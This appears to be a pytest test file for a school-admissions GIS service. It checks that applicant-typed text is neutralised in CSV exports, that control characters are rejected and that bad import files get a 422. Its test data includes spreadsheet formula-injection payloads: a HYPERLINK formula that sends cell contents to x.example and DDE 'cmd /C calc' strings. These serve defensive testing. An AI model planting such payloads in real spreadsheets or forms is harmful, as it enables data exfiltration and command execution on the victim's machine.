"""What the public types: CSV cells never formulas, no control characters, files read or 422."""

from __future__ import annotations

import csv
from collections.abc import Iterator
from pathlib import Path

import pytest
from fastapi.testclient import TestClient

from gis_service.app import create_app
from gis_service.settings import Settings
from tests.support.admission import application, create_round, homes, round_body, submit
from tests.support.cli import run_schoolgis
from tests.support.http import auth, problem
from tests.support.stores import make_token
from tests.support.zones import Computed

#: What the public may type, with what the officer's spreadsheet must show.
FORMULAS = {
    '=HYPERLINK("http://x.example/?d="&A1,"bấm")': '\'=HYPERLINK("http://x.example/?d="&A1,"bấm")',
    "-cmd|' /C calc'!A0": "'-cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0": "'@SUM(1+1)*cmd|' /C calc'!A0",
    "+84 903 =1+1": "'+84 903 =1+1",
}


@pytest.fixture
def client(fast_settings: Settings) -> Iterator[TestClient]:
    with TestClient(create_app(fast_settings)) as client:
        yield client


def _read(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8", newline="") as handle:
        return list(csv.DictReader(handle))


def test_placement_export_neutralises_formulas(
    client: TestClient, fast_settings: Settings, computed: Computed, tmp_path: Path
) -> None:
    officer = make_token(fast_settings, "enrolment_officer")
    round_id = create_round(client, officer)["id"]
    typed = list(FORMULAS)
    bodies = [
        application(home, name=f"{text} {i}", contact=text)
        for i, (text, home) in enumerate(zip(typed, homes(computed, len(typed)), strict=True))
    ]
    submit(client, round_id, officer, bodies)
    run = client.post(
        f"/api/v1/rounds/{round_id}/placement", json={"seed": 3}, headers=auth(officer)
    )
    assert run.status_code == 201, run.text
    out = tmp_path / "results.csv"
    exported = run_schoolgis(
        ["placement", "export", str(round_id), str(run.json()["id"]), str(out)], fast_settings
    )
    assert exported.returncode == 0, exported.stderr
    rows = sorted(_read(out), key=lambda row: row["child_name"])
    expected = sorted((f"{FORMULAS[text]} {i}", FORMULAS[text]) for i, text in enumerate(typed))
    assert [(row["child_name"], row["contact"]) for row in rows] == expected
    # numbers the service computes stay numbers
    assert all(row["distance_m"] == "" or float(row["distance_m"]) >= 0 for row in rows)


def test_control_characters_in_names_are_refused(
    client: TestClient, fast_settings: Settings, computed: Computed
) -> None:
    officer = make_token(fast_settings, "enrolment_officer")
    body = problem(
        client.post(
            "/api/v1/rounds",
            json=round_body(name="Lớp 1\x1b[31m"),
            headers=auth(officer),
        ),
        422,
    )
    assert [e["pointer"] for e in body["errors"]] == ["/name"]
    round_id = create_round(client, officer)["id"]
    (home,) = homes(computed, 1)
    for field, text in (("child_name", "Nguyễn\x00An"), ("contact", "0903\x07123")):
        response = client.post(
            f"/api/v1/rounds/{round_id}/applications", json=application(home, **{field: text})
        )
        body = problem(response, 422)
        assert [e["pointer"] for e in body["errors"]] == [f"/{field}"], body
        assert "U+00" in body["errors"][0]["detail"]
    assert client.get(f"/api/v1/rounds/{round_id}").json()["applications"] == 0


def test_an_unreadable_application_file_is_a_422(
    client: TestClient, fast_settings: Settings
) -> None:
    officer = make_token(fast_settings, "enrolment_officer")
    round_id = create_round(client, officer)["id"]
    for content in (
        b"\xc2\x95n\xf2\xa8\xb1\xbb\x02\r\x1d\xf4\x8c\xa4\x96Bq/*\xc3\x83",
        b"a" * 200_000,
    ):
        response = client.post(
            f"/api/v1/rounds/{round_id}/applications/import",
            files={"file": ("don.csv", content, "text/csv")},
            headers=auth(officer),
        )
        problem(response, 422)
    assert client.get(f"/api/v1/rounds/{round_id}").json()["applications"] == 0
